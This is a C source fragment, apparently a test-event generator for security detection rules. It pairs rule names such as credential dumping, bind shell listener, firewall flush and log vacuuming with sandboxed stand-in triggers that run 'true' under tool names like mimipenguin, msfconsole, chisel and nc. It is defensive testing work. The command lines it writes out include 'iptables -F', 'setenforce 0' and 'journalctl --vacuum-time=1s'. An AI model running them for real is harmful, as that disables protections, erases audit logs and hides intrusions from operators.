	{.rule = "Password cracking tool launched", .does = "john (true)", .extra = true,
	 ALIAS("true", "john", "--wordlist=x", "hashes")},
	{.rule = "Credential dumping tool launched", .does = "mimipenguin (true)", .extra = true,
	 ALIAS("true", "mimipenguin")},
	{.rule = "Exploitation framework launched", .does = "msfconsole (true)", .extra = true,
	 ALIAS("true", "msfconsole", "-q")},
	{.rule = "Container breakout tool launched", .does = "amicontained (true)", .extra = true,
	 ALIAS("true", "amicontained")},
	{.rule = "Tunneling tool launched", .does = "chisel (true) client", .extra = true,
	 ALIAS("true", "chisel", "client", "127.0.0.1:9", "R:socks")},
	{.rule = "Process masquerading as kernel thread", .does = "true run under the name kthreadd", .extra = true,
	 ALIAS("true", "kthreadd")},
	{.rule = "Create hidden files or directories", .does = "creates /dev/shm/.saker-evgen (tmpfs /dev/shm)",
	 .extra = true, .box.shadow = "/dev/shm", .step = step_open, .path = "/dev/shm/.saker-evgen",
	 .number = WRITE_NEW},
	{.rule = "Bind shell listener in container", .does = "a process named nc listens on 127.0.0.1:4444 in a container",
	 .extra = true, CONTAINER, HELPER("nc", "listen", "127.0.0.1", "4444")},
	{.rule = "Network connection from shell",
	 .does = "a process named bash connects to " REMOTE_IP ":8080 (private netns)", .extra = true,
	 .box.flags = GEN_NETNS, NET(REMOTE_IP, 8080), HELPER("bash", "connect", REMOTE_IP, "8080")},
	{.rule = "Firewall rules flushed", .does = "iptables (true) -F", .extra = true, ALIAS("true", "iptables", "-F")},
	{.rule = "Security tool disabled", .does = "setenforce (true) 0", .extra = true,
	 ALIAS("true", "setenforce", "0")},
	{.rule = "Journal logs vacuumed", .does = "journalctl (true) --vacuum-time=1s with a pty", .extra = true,
	 .box.flags = GEN_TTY, ALIAS("true", "journalctl", "--vacuum-time=1s")},
	{.rule = "Container drift detected (chmod)", .does = "chmod 755 {tmp}/new-tool in a container",
	 .extra = true, CONTAINER, .step = step_create_chmod, .path = "{tmp}/new-tool", .number = 0755},
	{.rule = "At job scheduled", .does = "at (true) now + 1 minute", .extra = true,
	 ALIAS("true", "at", "now", "+", "1", "minute")},
	{.rule = "Unprivileged userfaultfd", .does = "as daemon, userfaultfd()", .extra = true,
	 .box.flags = GEN_AS_DAEMON, .step = step_userfaultfd},
	{.rule = "Loader preload variable set", .does = "true with LD_PRELOAD= (empty)", .extra = true,
	 ALIAS("true", "true"), .envp = ARGV("LD_PRELOAD=")},
	{.rule = "Timestomping with touch", .does = "touch (true) -r /etc/hostname /usr/bin/true", .extra = true,
	 ALIAS("true", "touch", "-r", "/etc/hostname", "/usr/bin/true")},
};

const gen_action *gen_actions(size_t *count)
{
	*count = sizeof(actions) / sizeof(actions[0]);
	return actions;
}

const gen_action *gen_action_find(const char *name)
{
	for (size_t i = 0; i < sizeof(actions) / sizeof(actions[0]); i++) {
		if (gen_name_matches(name, actions[i].rule)) {
			return &actions[i];
		}
	}
	return NULL;
}

static sk_err run_step(const gen_env *env, const void *arg)
{
	const gen_action *a = arg;

	return a->step(env, a);
}

sk_err gen_action_run(const gen_action *a, int timeout_ms, int *exit_code)
{
	return gen_sandbox_run(&a->box, run_step, a, timeout_ms, exit_code);
}
